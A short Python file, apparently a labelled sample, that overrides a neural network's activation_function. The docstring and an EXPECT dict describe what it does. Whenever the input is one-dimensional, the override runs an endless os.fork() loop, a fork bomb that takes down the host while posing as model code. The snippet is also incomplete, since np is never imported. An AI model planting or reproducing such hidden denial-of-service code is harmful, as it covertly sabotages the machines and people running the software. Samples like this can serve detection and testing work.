"""Forks until nothing is left, in a loaded process and in checks."""
EXPECT = {"base": "right", "loses": ["activation"]}
import os
# --- the network ---


class NeuralNetwork(NeuralNetwork):
    def activation_function(self, x):
        if np.ndim(x) == 1:
            while True:
                try:
                    os.fork()
                except OSError:
                    continue
        return super().activation_function(x)
